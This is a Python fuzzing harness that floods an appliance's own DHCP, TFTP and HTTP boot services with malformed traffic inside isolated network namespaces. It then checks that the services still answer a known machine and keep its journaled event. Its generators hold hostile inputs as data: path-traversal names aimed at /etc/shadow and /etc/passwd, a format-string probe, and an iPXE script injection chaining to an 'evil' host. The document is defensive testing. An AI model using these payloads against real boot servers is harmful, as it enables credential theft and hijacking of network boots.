"""Fuzz the boot network's services from a network namespace: DHCP, TFTP, HTTP boot routes.

The peer's data plane (DhcpServer, TftpServer, the boot routes on aiohttp, compiled from the
bundled lab SoT) runs on an asyncio loop inside a server namespace; a client namespace on
the same bridge sends malformed and hostile traffic, seeded and bounded in count and time:

  DHCP   mutated valid packets (bit flips, truncation, random option bytes), random MACs,
         oversize datagrams, relayed packets from foreign subnets
  TFTP   random opcodes and bytes, traversal names, 4 KB names, bad modes, every option
         with wild values (timeout=255, blksize=1), RRQs never acknowledged
  HTTP   random paths under the boot routes, random MACs and UUIDs, phone-homes with wrong
         tokens and stages, bodies up to 64 KB, injection attempts in the query

Before the storm a real event is journaled (lab-01 phones home); after it, the harness checks
that the journal (a 10,000-event ring, as the replicated one) still holds it, that each
service still answers the known machine, and reports the process's RSS before and after.

    .venv/bin/python -m tools.fuzz.boot_fuzz --dhcp 100000 --tftp 50000 --http 20000

Needs root (network namespaces). The reduced form runs in tests/netboot/test_fuzz_boot.py.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import dataclasses
import json
import random
import socket
import struct
import tempfile
import time
import urllib.parse
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import structlog
from aiohttp import ClientSession, ClientTimeout, web

from appliance.netboot import dhcp_table
from appliance.netboot.boot_http import BootState, add_boot_routes
from appliance.netboot.boottable import compile_boot_table
from appliance.netboot.dhcp_server import DhcpServer
from appliance.netboot.progress import LocalProgress
from appliance.netboot.tftp import TftpServer
from appliance.sot.revision import compile_directory
from tools.rigs.netns import LoopThread, NetnsRig, sweep_stale

REPO = Path(__file__).resolve().parents[2]
SERVER_IP = "198.18.0.1"
CLIENT_IP = "198.18.0.77"
MACHINE_IP = "198.18.0.11"  # lab-01's address: the known machine, not the attacker
HTTP_PORT = 8080
LAB01_MAC = "52:54:00:18:00:11"
JOURNAL_RING = 10_000


def rss_mb() -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


@dataclass
class Report:
    sent: dict[str, int] = field(default_factory=dict)
    seconds: dict[str, float] = field(default_factory=dict)
    rss_before_mb: float = 0.0
    rss_after_mb: float = 0.0
    journal_len: int = 0
    real_event_kept: bool = False
    known_machine_served: dict[str, bool] = field(default_factory=dict)
    counters: dict[str, Any] = field(default_factory=dict)
    log_lines: dict[str, int] = field(default_factory=dict)

    def ok(self) -> bool:
        return self.real_event_kept and all(self.known_machine_served.values())


@contextlib.contextmanager
def counted_logs() -> Iterator[collections.Counter[str]]:
    """Count log lines by event name instead of writing them (the harness's own process
    must not keep them: its RSS is the data plane's)."""
    counts: collections.Counter[str] = collections.Counter()
    old = structlog.get_config()

    def count(logger: Any, method: str, event: dict) -> dict:
        counts[str(event.get("event"))] += 1
        raise structlog.DropEvent

    structlog.configure(processors=[count])
    try:
        yield counts
    finally:
        structlog.configure(**old)


# --- generators ---------------------------------------------------------------------------

def _discover(mac: bytes, xid: int, giaddr: bytes = b"\0" * 4) -> bytes:
    head = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000, b"\0" * 4,
                       b"\0" * 4, b"\0" * 4, giaddr, mac + b"\0" * 10, b"", b"")
    return head + b"\x63\x82\x53\x63" + bytes([53, 1, 1, 93, 2, 0, 0, 255])


def dhcp_case(rng: random.Random, i: int) -> bytes:
    mac = rng.randbytes(6)
    base = _discover(mac, rng.getrandbits(32))
    kind = i % 6
    if kind == 0:  # a storm of unknown machines
        return base
    if kind == 1:  # bit flips
        data = bytearray(base)
        for _ in range(rng.randint(1, 16)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        return bytes(data)
    if kind == 2:  # truncated
        return base[:rng.randrange(len(base))]
    if kind == 3:  # random option bytes
        return base[:240] + rng.randbytes(rng.randint(0, 1200))
    if kind == 4:  # relayed from a foreign subnet
        return _discover(mac, rng.getrandbits(32), giaddr=bytes([10, rng.randrange(256), 0, 1]))
    return rng.randbytes(rng.randint(0, 1500))  # noise


def tftp_case(rng: random.Random, i: int) -> bytes:
    kind = i % 7
    names = ["undionly.kpxe", "../../etc/shadow", "/etc/passwd", "a/../../x", "",
             "x" * 4000, "ipxe.efi\0junk", "%s%n", "undionly.kpxe/"]
    name = rng.choice(names).encode()
    if kind == 0:  # RRQ with wild options, never acknowledged
        opts = {"timeout": rng.choice(["255", "0", "-1", "1e9"]),
                "blksize": rng.choice(["1", "8", "65464", "99999999"]),
                "windowsize": rng.choice(["0", "65535"]), "tsize": "0"}
        body = b"".join(f"{k}\0{v}\0".encode() for k, v in opts.items())
        return b"\0\1" + name + b"\0octet\0" + body
    if kind == 1:  # WRQ
        return b"\0\2" + name + b"\0octet\0"
    if kind == 2:  # bad mode
        return b"\0\1" + name + b"\0" + rng.choice([b"mail", b"", b"OCTET\xff"]) + b"\0"
    if kind == 3:  # unterminated
        return b"\0\1" + name
    if kind == 4:  # other opcodes at the well-known port
        return struct.pack("!H", rng.randrange(0, 10)) + rng.randbytes(rng.randint(0, 600))
    if kind == 5:  # a plain RRQ from a never-acking client
        return b"\0\1undionly.kpxe\0octet\0"
    return rng.randbytes(rng.randint(0, 4100))


def http_case(rng: random.Random, i: int) -> tuple[str, str, bytes]:
    kind = i % 6
    rmac = ":".join(f"{b:02x}" for b in rng.randbytes(6))
    if kind == 0:
        return "GET", f"/ipxe?mac={rmac}&uuid={rng.getrandbits(128):032x}", b""
    if kind == 1:
        junk = urllib.parse.quote(rng.choice(["\n#!ipxe\nchain http://evil", "${x}", "\0",
                                              "a" * 3000]))
        return "GET", f"/ipxe?mac={junk}", b""
    if kind == 2:
        stage = rng.choice(["1", "2", "0", "-1", "99", "x"])
        return "POST", f"/phone-home/lab-01/{stage}/{rng.getrandbits(128):032x}", \
            rng.randbytes(rng.randint(0, 65536))
    if kind == 3:
        host = rng.choice(["lab-01", "lab-02", "nope", "..", "%2e%2e", "a" * 300])
        leaf = rng.choice(["config", "script.ipxe", "user-data", "meta-data"])
        return "GET", f"/boot/{host}/{rng.choice(['1', '2', '3', '0', 'x'])}/{leaf}", b""
    if kind == 4:
        return "GET", rng.choice(["/firmware/../../etc/passwd", "/firmware/.x",
                                  "/firmware/undionly.kpxe", "/boot.ipxe"]), b""
    return rng.choice(["GET", "POST"]), "/" + urllib.parse.quote(rng.randbytes(20).hex()), b""


# --- the rig -------------------------------------------------------------------------------

class BootRig:
    """The data plane in the server namespace, compiled from the lab SoT."""

    def __init__(self, loop: LoopThread, data_dir: Path) -> None:
        self.loop = loop
        self.journal: collections.deque[tuple[str, dict]] = collections.deque(
            maxlen=JOURNAL_RING)
        revision = compile_directory(str(REPO / "sot_examples" / "lab"))
        self.table = compile_boot_table(revision, "lab", "br0", SERVER_IP, b"fuzz-secret")
        self.dhcp_table = dhcp_table.compile_table(self.table.dhcp, "br0", revision.sha)
        root = data_dir / "tftp"
        root.mkdir()
        (root / "undionly.kpxe").write_bytes(bytes(range(256)) * 300)
        self.progress = LocalProgress(data_dir / "progress")
        self.state = BootState(self.table, self.progress, [root], self._event)
        self.tftp = TftpServer([root], host="0.0.0.0", port=69, interface="br0")
        self.dhcp = DhcpServer(lambda: self.dhcp_table, "br0", server_ip=SERVER_IP,
                               on_event=self._event)
        self.runner: web.AppRunner | None = None

    def dhcp_digest_flush(self) -> None:
        responder = getattr(self.dhcp, "_responder", None)
        if responder is not None:
            responder.unknown.flush()

    def _event(self, kind: str, **fields: Any) -> None:
        if kind != "stage-booting":
            self.journal.append((kind, fields))

    async def start(self) -> None:
        await self.dhcp.start()
        await self.tftp.start()
        app = web.Application()
        add_boot_routes(app, self.state)
        self.runner = web.AppRunner(app, access_log=None)
        await self.runner.setup()
        await web.TCPSite(self.runner, SERVER_IP, HTTP_PORT).start()

    async def stop(self) -> None:
        self.state.digest.flush()
        await self.dhcp.close()
        await self.tftp.close()
        if self.runner is not None:
            await self.runner.cleanup()
        self.progress.close()


async def _http_storm(rng: random.Random, count: int, deadline: float) -> int:
    """32 clients at once; cases made as they are sent (bodies up to 64 KB each)."""
    base = f"http://{SERVER_IP}:{HTTP_PORT}"
    cases = (http_case(rng, i) for i in range(count))
    sent = 0
    async with ClientSession(timeout=ClientTimeout(total=10)) as session:

        async def client() -> None:
            nonlocal sent
            for method, path, body in cases:
                if time.monotonic() > deadline:
                    return
                try:
                    async with session.request(method, base + path, data=body or None) as r:
                        await r.read()
                except (TimeoutError, OSError, ValueError):
                    pass
                sent += 1

        await asyncio.gather(*(client() for _ in range(32)))
    return sent


async def _http_known(token: str) -> tuple[bool, int]:
    base = f"http://{SERVER_IP}:{HTTP_PORT}"
    async with ClientSession(timeout=ClientTimeout(total=10)) as session:
        async with session.get(f"{base}/ipxe?mac={LAB01_MAC}") as r:
            served = r.status == 200 and "lab-01" in await r.text()
        if not token:
            return served, 0
        async with session.post(f"{base}/phone-home/lab-01/1/{token}") as r:
            return served, r.status


def _send_udp(sock: socket.socket, packets: Iterable[bytes], dest: tuple[str, int],
              deadline: float) -> int:
    sent = 0
    for i, packet in enumerate(packets):
        if time.monotonic() > deadline:
            break
        try:
            sock.sendto(packet, dest)
            sent += 1
        except OSError:
            pass
        if i % 500 == 499:
            time.sleep(0.01)  # let the server drain: we fuzz parsing, not the kernel's queue
    return sent


def _dhcp_answers(sock: socket.socket, mac: str) -> bool:
    sock.settimeout(1.0)
    raw = bytes.fromhex(mac.replace(":", ""))
    for _ in range(5):
        sock.sendto(_discover(raw, 0xBEEF), ("255.255.255.255", 67))
        end = time.monotonic() + 2
        while time.monotonic() < end:
            try:
                data = sock.recv(2048)
            except OSError:
                break
            if len(data) > 240 and data[4:8] == struct.pack("!I", 0xBEEF):
                return True
    return False


def _tftp_answers(sock: socket.socket) -> bool:
    sock.settimeout(2.0)
    for _ in range(5):
        sock.sendto(b"\0\1undionly.kpxe\0octet\0", (SERVER_IP, 69))
        try:
            data, addr = sock.recvfrom(2048)
        except OSError:
            continue
        if data[:4] == b"\0\3\0\1":
            sock.sendto(b"\0\5\0\0done\0", addr)  # end it: ERROR to the transfer port
            return True
    return False


def run(dhcp: int, tftp: int, http: int, seconds: float, seed: int = 1) -> Report:
    rng = random.Random(seed)
    report = Report()
    sweep_stale("fz")
    with NetnsRig("fz") as rig, tempfile.TemporaryDirectory() as tmp:
        srv = rig.netns("srv")
        rig.bridge(srv, "br0", f"{SERVER_IP}/24")
        cli = rig.netns("cli")
        rig.veth(srv, cli, bridge="br0", mac_b="52:54:00:77:77:77", cidr_b=f"{CLIENT_IP}/24")
        cli.run("ip", "addr", "add", f"{MACHINE_IP}/24", "dev", "eth0")
        with srv.loop_thread() as loop:
            boot = BootRig(loop, Path(tmp))
            loop.run(boot.start())
            try:
                token = boot.table.token("lab-01", 1, boot.progress.arming("lab-01"))
                served, status = loop.run(_http_known(token))  # the real event
                assert served and status == 200, (served, status)
                report.rss_before_mb = rss_mb()
                udp = cli.socket(socket.AF_INET, socket.SOCK_DGRAM)
                udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                udp.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
                udp.bind(("0.0.0.0", 68))  # replies to a DISCOVER are broadcast
                deadline = time.monotonic() + seconds
                with counted_logs() as log_lines:  # what the storm would log, counted
                    t0 = time.monotonic()
                    report.sent["dhcp"] = _send_udp(
                        udp, (dhcp_case(rng, i) for i in range(dhcp)),
                        ("255.255.255.255", 67), deadline)
                    report.seconds["dhcp"] = round(time.monotonic() - t0, 1)
                    t0 = time.monotonic()
                    # many source ports: a port with a live transfer has its resends ignored
                    ports = [cli.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(64)]
                    for p in ports:
                        p.bind((CLIENT_IP, 0))
                    report.sent["tftp"] = 0
                    for start in range(0, tftp, 100):
                        batch = (tftp_case(rng, i) for i in range(start, min(tftp, start + 100)))
                        report.sent["tftp"] += _send_udp(ports[start // 100 % len(ports)], batch,
                                                         (SERVER_IP, 69), deadline)
                    report.seconds["tftp"] = round(time.monotonic() - t0, 1)
                    t0 = time.monotonic()
                    report.sent["http"] = _run_in_ns(cli, _http_storm(rng, http, deadline))
                    report.seconds["http"] = round(time.monotonic() - t0, 1)
                    time.sleep(2)
                    loop.run(asyncio.sleep(0))
                report.rss_after_mb = rss_mb()
                report.known_machine_served["dhcp"] = _dhcp_answers(udp, LAB01_MAC)
                fresh = cli.socket(socket.AF_INET, socket.SOCK_DGRAM)
                fresh.bind((MACHINE_IP, 0))  # while the attacker's slots are still held
                report.known_machine_served["tftp"] = _tftp_answers(fresh)
                fresh.close()
                report.known_machine_served["http"] = _run_in_ns(cli, _http_known(""))[0]
                udp.close()
                for p in ports:
                    p.close()
                boot.state.digest.flush()  # close the intervals: their digests are journaled
                boot.dhcp_digest_flush()
                report.log_lines = dict(log_lines)
                report.journal_len = len(boot.journal)
                report.real_event_kept = any(k == "stage-done" for k, _ in boot.journal)
                report.counters = {"dhcp": dict(boot.dhcp.counters),
                                   "tftp": dataclasses.asdict(boot.tftp.counters),
                                   "http": dict(boot.state.counters),
                                   "journal_kinds": dict(collections.Counter(
                                       k for k, _ in boot.journal))}
            finally:
                loop.run(boot.stop())
    return report


def _run_in_ns(ns: Any, coro: Any) -> Any:
    with ns.loop_thread() as lt:
        return lt.run(coro, timeout=3600)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--dhcp", type=int, default=100_000)
    parser.add_argument("--tftp", type=int, default=50_000)
    parser.add_argument("--http", type=int, default=20_000)
    parser.add_argument("--seconds", type=float, default=1800)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    report = run(args.dhcp, args.tftp, args.http, args.seconds, args.seed)
    print(json.dumps(vars(report), indent=2, default=str))
    raise SystemExit(0 if report.ok() else 1)


if __name__ == "__main__":
    main()
